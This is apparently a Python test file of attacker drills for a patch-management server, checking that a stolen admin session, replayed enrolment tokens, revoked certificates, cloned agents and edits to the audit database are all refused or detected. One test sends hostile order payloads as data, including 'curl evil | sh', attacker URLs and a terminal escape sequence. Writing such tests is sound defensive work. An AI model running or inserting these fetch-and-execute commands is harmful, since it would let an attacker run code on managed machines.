#!/usr/bin/env python3
"""Drills that need a server: what falls into whose hands, and what he can do with it then.

    drills_test.py BUILD

Each says what the attacker has, tries, and holds that nothing bad came of it and somebody was told."""
import json
import os
import sys
import tempfile
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from agent_model import SAFE_LANE, Agent, Refused, Token  # noqa: E402
from sutured import Sutured, shield  # noqa: E402

MODEL_PACKAGES = [("openssl", "3.0.1-1", "libssl3", "3.0.1-1", "amd64")]


class Drill(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.place = tempfile.TemporaryDirectory(prefix="suture-drills-")
        cls.server = Sutured(os.path.join(cls.place.name, "server"))

    @classmethod
    def tearDownClass(cls):
        cls.server.end()
        cls.place.cleanup()

    def agent(self, name="laptop"):
        agent = Agent(self.server.place()).enrol(self.server.new_token(), name)
        agent.checkin()
        return agent

    def audit(self):
        """The deeds of the audit log."""
        return [row["deed"] for row in self.server.api("GET", "/api/1/audit")["audit"]]

    def test_stolen_admin_session(self):
        """He has the token of an administrator's session (Kaseya, July 2021). He can say when; he has no bytes, and it is all written down."""
        agent = self.agent()
        thief = self.server.login()
        before = agent.checkin()["plan"]
        for body in ({"fix": "openssl", "reason": "x", "command": "curl evil | sh"}, {"fix": "openssl", "reason": "x", "url": "http://evil/"},
                     {"fix": "openssl", "reason": "x", "version": "6.6.6"}, {"fix": "http://evil/x.deb", "reason": "x"}, {"fix": "a\\u001b[2J", "reason": "x"}):
            status, told, _ = self.server.raw("POST", "/api/1/orders", body, thief)
            self.assertEqual(status, 400, (body, told))
        for method, path in (("PUT", "/api/1/repo/targets/policy.yaml"), ("POST", "/api/1/policy"), ("POST", "/api/1/hosts"), ("PUT", "/repo/metadata/root.json"),
                             ("POST", "/api/1/content"), ("DELETE", "/api/1/audit"), ("PUT", "/content/" + "0" * 64)):
            status, _, _ = self.server.raw(method, path, {"x": "y"}, thief)
            self.assertIn(status, (404, 405), f"{method} {path}: {status}")
        self.assertEqual(agent.checkin()["plan"], before)
        said = self.server.static("/repo/metadata/timestamp.json")[0]
        self.assertEqual(said, 200)
        self.assertIn("login", self.audit())

    def test_enrolment_in_the_middle(self):
        """He answers in the server's place, with a CA of his own. The token names another: a machine says nothing to him; see fleet_test for the agent's part."""
        token = Token.parse(self.server.new_token())
        import hashlib
        import ssl
        self.assertEqual(token.ca, hashlib.sha256(ssl.PEM_cert_to_DER_cert(self.server.authority())).digest())

    def test_token_replay(self):
        """He has read a token from a ticket, after it was used."""
        token = self.server.new_token()
        Agent(self.server.place()).enrol(token, "the right one")
        with self.assertRaises(Refused) as caught:
            Agent(self.server.place()).enrol(token, "the thief")
        self.assertEqual(caught.exception.status, 403)
        forged = Token.parse(token)
        forged.secret = bytes(16)
        with self.assertRaises(Refused) as caught:
            Agent(self.server.place()).enrol(forged, "the guesser")
        self.assertEqual(caught.exception.status, 403)

    def test_rogue_certificate(self):
        """He has a certificate of a revoked machine, and one of his own making."""
        agent, other = self.agent("stolen"), self.agent("other")
        self.server.api("POST", f"/api/1/hosts/{agent.host.hex()}/revoke", {"reason": "stolen"})
        with self.assertRaises(Refused) as caught:
            agent.checkin()
        self.assertEqual(caught.exception.status, 403)
        with self.assertRaises(Refused):
            agent.renew()
        self.assertEqual(other.checkin()["flags"] & SAFE_LANE, 0)

    def test_clone_is_held_until_a_person_accepts_it(self):
        agent = self.agent("twin")
        clone = agent.copy()
        agent.checkin()
        self.assertTrue(clone.checkin()["flags"] & SAFE_LANE)
        self.assertTrue(agent.checkin()["flags"] & SAFE_LANE)
        host = self.server.api("GET", f"/api/1/hosts/{agent.host.hex()}")
        self.assertEqual(host["state"], "held")
        self.server.api("POST", f"/api/1/hosts/{agent.host.hex()}/accept", {"reason": "the clone is gone"})
        self.assertEqual(agent.checkin()["flags"] & SAFE_LANE, 0)

    def test_the_audit_log_is_chained(self):
        """He edits the database, and the log that he then hands out: whoever checks it finds the row."""
        import sqlite3
        import subprocess
        self.agent("noted")
        log = os.path.join(self.place.name, "audit")

        def verify():
            status, told, _ = self.server.raw("GET", "/api/1/audit/export", None, self.server.login())
            self.assertEqual(status, 200)
            with open(log, "wb") as file:
                file.write(told)
            return subprocess.run([os.path.join(os.environ["SUTURE_BUILD"], "suture"), "audit", "verify", log], capture_output=True, text=True, check=False,
                                  env={**os.environ, "HOME": self.place.name, "SUTURE_STATE": self.place.name, "SUTURE_CONFIG": self.place.name})
        self.assertEqual(verify().returncode, 0, verify())
        self.server.stop()
        database = sqlite3.connect(self.server.store)
        changed = database.execute("UPDATE audit SET object = 'nothing' WHERE seq = (SELECT MIN(seq) + 1 FROM audit)").rowcount
        database.commit()
        database.close()
        self.assertEqual(changed, 1)
        self.server.start()
        told = verify()
        self.assertEqual(told.returncode, 1, told)


if __name__ == "__main__":
    os.environ["SUTURE_BUILD"] = os.path.abspath(sys.argv.pop(1))
    problem = shield()
    if problem:
        print(f"skipped: {problem}")
        sys.exit(77)
    unittest.main(verbosity=2)
